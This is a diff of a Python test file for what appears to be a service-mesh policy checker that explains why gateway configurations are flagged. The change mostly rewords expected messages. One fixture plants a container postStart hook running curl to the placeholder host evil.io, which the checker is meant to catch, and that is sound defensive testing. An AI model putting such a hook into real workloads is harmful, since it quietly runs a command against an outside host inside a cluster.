@@ -186,12 +186,14 @@ def test_of_a_gateway_with_more_in_it_the_opt_out_is_explained(by: str) -> None:
         (one,) = [violation for violation in told if violation.check == "opted-out"]
         return one.reason
 
-    assert "spec.containers[shop] is beside the proxy" in reason(changed(waypoint(), beside))
+    assert "spec.containers[shop] is a container beside the proxy" in reason(
+        changed(waypoint(), beside)
+    )
     hook = put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})
     text = reason(changed(waypoint(), hook))
-    assert "spec.containers[istio-proxy].lifecycle.postStart runs a command of its own" in text
+    assert "spec.containers[istio-proxy].lifecycle.postStart runs its own command" in text
     agent = put(APP + "/name", "agentgateway")
-    assert "it runs agentgateway, and mendix-mesh knows" in reason(changed(waypoint(), agent))
+    assert "it runs agentgateway, but mendix-mesh recognizes" in reason(changed(waypoint(), agent))
     managed = drop("/metadata/labels/gateway.istio.io~1managed")
     assert "gateway" not in reason(changed(waypoint(), beside, managed))
 
